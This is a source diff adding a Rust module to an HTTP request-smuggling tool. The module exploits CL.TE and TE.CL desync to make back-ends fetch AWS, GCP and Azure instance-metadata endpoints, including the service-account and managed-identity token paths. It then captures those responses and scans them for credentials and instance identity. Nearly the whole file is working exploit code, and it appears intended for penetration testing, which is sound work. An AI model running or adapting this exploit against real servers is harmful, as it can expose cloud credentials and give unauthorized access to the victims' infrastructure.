@@ -0,0 +1,536 @@
+//! Cloud instance-metadata exploit (SSRF through request smuggling).
+//!
+//! A back-end running on a cloud VM can usually reach the provider's instance
+//! metadata service at a link-local address, while the front-end never routes
+//! external traffic there. Smuggling a complete request whose `Host` names the
+//! metadata service makes a back-end that honours absolute routing (or a
+//! forward-proxying front-end) fetch it, and the response-queue desync hands
+//! that response to one of our follow-up requests. smugglex smuggles the
+//! well-known AWS, GCP and Azure endpoints — with the headers GCP and Azure
+//! require — and inspects the captured responses for credentials and instance
+//! identity, labeling the provider the response actually came from.
+
+use colored::*;
+use serde_json::Value;
+use std::fmt;
+use std::time::Duration;
+
+use super::smuggle::{TE_VARIANTS, build_clte, build_tecl};
+use super::{ExploitBudget, VulnerabilityContext, extract_body};
+use crate::error::Result;
+use crate::http::{HttpResponse, pipeline_requests};
+
+/// Cloud provider owning a metadata endpoint or a captured response.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum CloudProvider {
+    Aws,
+    Gcp,
+    Azure,
+}
+
+impl CloudProvider {
+    /// Name used in output.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            CloudProvider::Aws => "AWS",
+            CloudProvider::Gcp => "GCP",
+            CloudProvider::Azure => "Azure",
+        }
+    }
+}
+
+impl fmt::Display for CloudProvider {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// A metadata request to smuggle.
+#[derive(Debug, Clone, Copy)]
+pub struct MetadataEndpoint {
+    pub provider: CloudProvider,
+    pub host: &'static str,
+    pub path: &'static str,
+    /// Headers the service requires before it answers
+    pub headers: &'static [&'static str],
+}
+
+/// Endpoints tried in order, credentials before instance identity where the
+/// credential path is fixed. AWS is queried through IMDSv1, which needs no
+/// session token; its credential path embeds the role name, so only the
+/// listing and identity document are requested.
+pub const METADATA_ENDPOINTS: &[MetadataEndpoint] = &[
+    MetadataEndpoint {
+        provider: CloudProvider::Aws,
+        host: "169.254.169.254",
+        path: "/latest/meta-data/",
+        headers: &[],
+    },
+    MetadataEndpoint {
+        provider: CloudProvider::Aws,
+        host: "169.254.169.254",
+        path: "/latest/dynamic/instance-identity/document",
+        headers: &[],
+    },
+    MetadataEndpoint {
+        provider: CloudProvider::Gcp,
+        host: "metadata.google.internal",
+        path: "/computeMetadata/v1/instance/service-accounts/default/token",
+        headers: &["Metadata-Flavor: Google"],
+    },
+    MetadataEndpoint {
+        provider: CloudProvider::Gcp,
+        host: "metadata.google.internal",
+        path: "/computeMetadata/v1/instance/?recursive=true",
+        headers: &["Metadata-Flavor: Google"],
+    },
+    MetadataEndpoint {
+        provider: CloudProvider::Azure,
+        host: "169.254.169.254",
+        path: "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
+        headers: &["Metadata: true"],
+    },
+    MetadataEndpoint {
+        provider: CloudProvider::Azure,
+        host: "169.254.169.254",
+        path: "/metadata/instance?api-version=2021-02-01",
+        headers: &["Metadata: true"],
+    },
+];
+
+/// JSON fields whose presence marks leaked credentials. Values are never
+/// reported, only the field names.
+const CREDENTIAL_FIELDS: &[(CloudProvider, &str)] = &[
+    (CloudProvider::Aws, "SecretAccessKey"),
+    (CloudProvider::Aws, "AccessKeyId"),
+    (CloudProvider::Aws, "Token"),
+    (CloudProvider::Gcp, "access_token"),
+    (CloudProvider::Azure, "access_token"),
+];
+
+/// JSON fields identifying the instance, reported with their values.
+const IDENTITY_FIELDS: &[(CloudProvider, &str)] = &[
+    (CloudProvider::Aws, "accountId"),
+    (CloudProvider::Aws, "instanceId"),
+    (CloudProvider::Aws, "region"),
+    (CloudProvider::Gcp, "id"),
+    (CloudProvider::Gcp, "zone"),
+    (CloudProvider::Gcp, "serviceAccounts"),
+    (CloudProvider::Azure, "vmId"),
+    (CloudProvider::Azure, "subscriptionId"),
+    (CloudProvider::Azure, "resourceGroupName"),
+    (CloudProvider::Azure, "location"),
+];
+
+/// Plain-text AWS metadata listing entries (`/latest/meta-data/`).
+const AWS_LISTING_ENTRIES: &[&str] = &["ami-id", "instance-id", "security-credentials"];
+
+/// Follow-up GETs pipelined behind each metadata smuggle.
+pub const METADATA_FOLLOW_UPS: usize = 3;
+
+#[derive(Debug)]
+pub struct CloudMetadataParams<'a> {
+    pub host: &'a str,
+    pub port: u16,
+    pub path: &'a str,
+    pub use_tls: bool,
+    pub timeout: u64,
+    pub verbose: bool,
+    pub vuln_ctx: &'a VulnerabilityContext,
+    /// How many follow-up GETs to pipeline behind each smuggle
+    pub follow_ups: usize,
+    pub delay: u64,
+    /// Caps shared with the other exploits; untested endpoints are left out
+    pub budget: &'a ExploitBudget,
+}
+
+/// Result of smuggling one metadata endpoint
+#[derive(Debug)]
+pub struct CloudMetadataResult {
+    /// Provider whose endpoint was smuggled
+    pub provider: CloudProvider,
+    /// Metadata URL requested, e.g. `http://169.254.169.254/latest/...`
+    pub url: String,
+    pub success: bool,
+    /// Provider the captured response identifies itself as
+    pub detected_provider: Option<CloudProvider>,
+    /// Whether the captured response contains credentials
+    pub credentials_exposed: bool,
+    /// Credential field names and identity fields (`name=value`) found
+    pub findings: Vec<String>,
+    pub reason: String,
+    pub response_status: Option<String>,
+}
+
+/// What a captured response reveals about the metadata service behind it.
+#[derive(Debug, Default, PartialEq, Eq)]
+struct MetadataEvidence {
+    provider: Option<CloudProvider>,
+    credential_fields: Vec<String>,
+    identity: Vec<String>,
+}
+
+impl MetadataEvidence {
+    fn is_empty(&self) -> bool {
+        self.credential_fields.is_empty() && self.identity.is_empty()
+    }
+}
+
+/// Complete request for `endpoint`, ready to be smuggled.
+fn build_metadata_request(endpoint: &MetadataEndpoint) -> String {
+    let mut request = format!(
+        "GET {} HTTP/1.1\r\nHost: {}\r\n",
+        endpoint.path, endpoint.host
+    );
+    for header in endpoint.headers {
+        request.push_str(header);
+        request.push_str("\r\n");
+    }
+    request.push_str("Connection: close\r\n\r\n");
+    request
+}
+
+/// Inspect a response for metadata-service content. Signatures already
+/// present in the application's baseline body are ignored.
+fn analyze_metadata_response(response: &str, baseline_body: &str) -> MetadataEvidence {
+    let mut evidence = MetadataEvidence::default();
+    let response = HttpResponse::parse(response.as_bytes());
+    let body = response.text_after_head();
+    if body.is_empty() {
+        return evidence;
+    }
+
+    if response
+        .header_values("metadata-flavor")
+        .any(|v| v.eq_ignore_ascii_case("google"))
+    {
+        evidence.provider = Some(CloudProvider::Gcp);
+    }
+
+    if let Ok(Value::Object(root)) = serde_json::from_str::<Value>(body.trim()) {
+        // Azure nests the instance identity under `compute`.
+        let compute = root.get("compute").and_then(Value::as_object);
+        let lookup = |field: &str| root.get(field).or_else(|| compute?.get(field));
+
+        for &(provider, field) in CREDENTIAL_FIELDS {
+            if lookup(field).is_some() && !evidence.credential_fields.iter().any(|f| f == field) {
+                evidence.credential_fields.push(field.to_string());
+                evidence.provider.get_or_insert(provider);
+            }
+        }
+        for &(provider, field) in IDENTITY_FIELDS {
+            if let Some(value) = lookup(field) {
+                let rendered = match value {
+                    Value::String(s) => s.clone(),
+                    Value::Array(items) => format!("{} entries", items.len()),
+                    Value::Object(map) => map.keys().cloned().collect::<Vec<_>>().join(","),
+                    other => other.to_string(),
+                };
+                evidence.identity.push(format!("{}={}", field, rendered));
+                evidence.provider.get_or_insert(provider);
+            }
+        }
+        if compute.is_some() {
+            evidence.provider = Some(CloudProvider::Azure);
+        }
+        // An `access_token` alone does not tell GCP from Azure; Azure's carries
+        // the requested `resource`.
+        if root.contains_key("access_token") && root.contains_key("resource") {
+            evidence.provider = Some(CloudProvider::Azure);
+        }
+    } else {
+        let entries: Vec<&str> = body
+            .lines()
+            .map(str::trim)
+            .filter(|line| AWS_LISTING_ENTRIES.contains(line))
+            .collect();
+        if !entries.is_empty() {
+            evidence.provider = Some(CloudProvider::Aws);
+            evidence
+                .identity
+                .push(format!("listing={}", entries.join(",")));
+        }
+    }
+
+    // The application itself may legitimately mention these fields.
+    if !baseline_body.is_empty() {
+        evidence
+            .credential_fields
+            .retain(|f| !baseline_body.contains(&format!("\"{}\"", f)));
+        evidence.identity.retain(|f| {
+            let name = f.split('=').next().unwrap_or(f);
+            !baseline_body.contains(name)
+        });
+        if evidence.is_empty() {
+            evidence.provider = None;
+        }
+    }
+    evidence
+}
+
+/// Smuggle each metadata endpoint through the detected vulnerability and look
+/// for its response among the follow-ups.
+pub async fn test_cloud_metadata(
+    params: &CloudMetadataParams<'_>,
+) -> Result<Vec<CloudMetadataResult>> {
+    let get = format!(
+        "GET {} HTTP/1.1\r\nHost: {}\r\nConnection: keep-alive\r\n\r\n",
+        params.path, params.host
+    );
+    if !params.budget.take(1) {
+        return Ok(Vec::new());
+    }
+    let baseline = pipeline_requests(
+        params.host,
+        params.port,
+        std::slice::from_ref(&get),
+        params.timeout,
+        params.verbose,
+        params.use_tls,
+    )
+    .await?;
+    let baseline_body = baseline
+        .first()
+        .map(|r| extract_body(r))
+        .unwrap_or_default();
+
+    let vuln_type_lower = params.vuln_ctx.vuln_type.to_lowercase();
+    let use_tecl = vuln_type_lower.contains("te-cl") || vuln_type_lower.contains("tecl");
+    let (_, plain_te) = TE_VARIANTS[0];
+
+    let mut results = Vec::new();
+    for (i, endpoint) in METADATA_ENDPOINTS.iter().enumerate() {
+        if !params.budget.take(1 + params.follow_ups) {
+            break;
+        }
+        if params.delay > 0 && i > 0 {
+            tokio::time::sleep(Duration::from_millis(params.delay)).await;
+        }
+        let url = format!("http://{}{}", endpoint.host, endpoint.path);
+        if params.verbose {
+            println!(
+                "\n{} Smuggling {} metadata request: {}",
+                "[*]".cyan(),
+                endpoint.provider,
+                url.yellow()
+            );
+        }
+
+        let inner = build_metadata_request(endpoint);
+        let wrapper = if use_tecl {
+            build_tecl(params.host, params.path, &inner, plain_te)
+        } else {
+            build_clte(params.host, params.path, &inner, plain_te)
+        };
+        let mut requests = vec![wrapper];
+        requests.extend(std::iter::repeat_n(get.clone(), params.follow_ups));
+
+        let responses = match pipeline_requests(
+            params.host,
+            params.port,
+            &requests,
+            params.timeout,
+            params.verbose,
+            params.use_tls,
+        )
+        .await
+        {
+            Ok(responses) => responses,
+            Err(e) => {
+                results.push(CloudMetadataResult {
+                    provider: endpoint.provider,
+                    url,
+                    success: false,
+                    detected_provider: None,
+                    credentials_exposed: false,
+                    findings: Vec::new(),
+                    reason: format!("Smuggling request failed: {}", e),
+                    response_status: None,
+                });
+                continue;
+            }
+        };
+
+        let captured = responses.iter().skip(1).find_map(|resp| {
+            let evidence = analyze_metadata_response(resp, &baseline_body);
+            (!evidence.is_empty()).then_some((resp, evidence))
+        });
+        let result = match captured {
+            Some((resp, evidence)) => {
+                let credentials_exposed = !evidence.credential_fields.is_empty();
+                let mut findings: Vec<String> = evidence
+                    .credential_fields
+                    .iter()
+                    .map(|f| format!("{} (credential)", f))
+                    .collect();
+                findings.extend(evidence.identity);
+                CloudMetadataResult {
+                    provider: endpoint.provider,
+                    url,
+                    success: true,
+                    detected_provider: evidence.provider,
+                    credentials_exposed,
+                    reason: if credentials_exposed {
+                        "Captured metadata response exposing credentials".to_string()
+                    } else {
+                        "Captured metadata response exposing instance identity".to_string()
+                    },
+                    findings,
+                    response_status: Some(HttpResponse::parse(resp.as_bytes()).status_line),
+                }
+            }
+            None => CloudMetadataResult {
+                provider: endpoint.provider,
+                url,
+                success: false,
+                detected_provider: None,
+                credentials_exposed: false,
+                findings: Vec::new(),
+                reason: "No metadata content in follow-up responses".to_string(),
+                response_status: None,
+            },
+        };
+        if params.verbose {
+            if result.success {
+                println!("  {} {}", "[+]".green(), result.reason);
+            } else {
+                println!("  {} {}", "[-]".red(), result.reason);
+            }
+        }
+        results.push(result);
+    }
+
+    Ok(results)
+}
+
+/// Print cloud metadata results in a formatted way
+pub fn print_cloud_metadata_results(results: &[CloudMetadataResult], target_url: &str) {
+    let successful: Vec<_> = results.iter().filter(|r| r.success).collect();
+
+    println!("\n{}", "=== Cloud Metadata Exploit Results ===".bold());
+    println!("{} {}", "Target:".bold(), target_url);
+    println!(
+        "{} {}/{}",
+        "Success Rate:".bold(),
+        successful.len(),
+        results.len()
+    );
+    println!();
+
+    if successful.is_empty() {
+        println!(
+            "{} No metadata service response captured",
+            "[-]".red().bold()
+        );
+    }
+    for result in &successful {
+        let provider = result.detected_provider.unwrap_or(result.provider);
+        let label = if result.credentials_exposed {
+            "Cloud Credentials Exposed".red().bold()
+        } else {
+            "Cloud Metadata Reached".green().bold()
+        };
+        println!(
+            "{} {} ({})",
+            "[+]".green().bold(),
+            label,
+            provider.as_str().yellow().bold()
+        );
+        println!("  {} {}", "URL:".bold(), result.url);
+        println!("  {} {}", "Reason:".bold(), result.reason);
+        if let Some(ref status) = result.response_status {
+            println!("  {} {}", "Response Status:".bold(), status);
+        }
+        for finding in &result.findings {
+            println!("  {} {}", "-".dimmed(), finding);
+        }
+        println!();
+    }
+
+    let failed_count = results.len() - successful.len();
+    if failed_count > 0 {
+        println!(
+            "{} {} metadata endpoints showed no response",
+            "[-]".red(),
+            failed_count
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn response(head: &str, body: &str) -> String {
+        format!("HTTP/1.1 200 OK\r\n{}\r\n\r\n{}", head, body)
+    }
+
+    #[test]
+    fn metadata_request_carries_required_headers() {
+        let gcp = METADATA_ENDPOINTS
+            .iter()
+            .find(|e| e.provider == CloudProvider::Gcp)
+            .unwrap();
+        let request = build_metadata_request(gcp);
+        assert!(request.starts_with("GET /computeMetadata/v1/"));
+        assert!(request.contains("Host: metadata.google.internal\r\n"));
+        assert!(request.contains("Metadata-Flavor: Google\r\n"));
+        assert!(request.ends_with("\r\n\r\n"));
+    }
+
+    #[test]
+    fn analyze_detects_aws_credentials_without_values() {
+        let body = r#"{"Code":"Success","AccessKeyId":"ASIAEXAMPLE","SecretAccessKey":"s3cr3t","Token":"tok"}"#;
+        let evidence = analyze_metadata_response(&response("Server: EC2ws", body), "");
+        assert_eq!(evidence.provider, Some(CloudProvider::Aws));
+        assert_eq!(
+            evidence.credential_fields,
+            vec!["SecretAccessKey", "AccessKeyId", "Token"]
+        );
+        assert!(!format!("{:?}", evidence).contains("s3cr3t"));
+    }
+
+    #[test]
+    fn analyze_labels_gcp_and_azure() {
+        let gcp = response(
+            "Metadata-Flavor: Google",
+            r#"{"access_token":"ya29.x","expires_in":3599,"token_type":"Bearer"}"#,
+        );
+        let evidence = analyze_metadata_response(&gcp, "");
+        assert_eq!(evidence.provider, Some(CloudProvider::Gcp));
+        assert_eq!(evidence.credential_fields, vec!["access_token"]);
+
+        let azure = response(
+            "Content-Type: application/json",
+            r#"{"compute":{"vmId":"1234","subscriptionId":"abcd","location":"westeurope"}}"#,
+        );
+        let evidence = analyze_metadata_response(&azure, "");
+        assert_eq!(evidence.provider, Some(CloudProvider::Azure));
+        assert!(evidence.identity.contains(&"vmId=1234".to_string()));
+
+        let azure_token = response(
+            "Content-Type: application/json",
+            r#"{"access_token":"eyJ0","resource":"https://management.azure.com/"}"#,
+        );
+        assert_eq!(
+            analyze_metadata_response(&azure_token, "").provider,
+            Some(CloudProvider::Azure)
+        );
+    }
+
+    #[test]
+    fn analyze_ignores_application_responses() {
+        let app = response("Content-Type: text/html", "<html>Welcome</html>");
+        assert!(analyze_metadata_response(&app, "<html>Welcome</html>").is_empty());
+
+        // An API that always returns `region` is not a metadata leak.
+        let api = response("", r#"{"region":"us-east-1"}"#);
+        assert!(analyze_metadata_response(&api, r#"{"region":"eu-west-1"}"#).is_empty());
+
+        let listing = response("", "ami-id\ninstance-id\nhostname\n");
+        assert_eq!(
+            analyze_metadata_response(&listing, "").provider,
+            Some(CloudProvider::Aws)
+        );
+    }
+}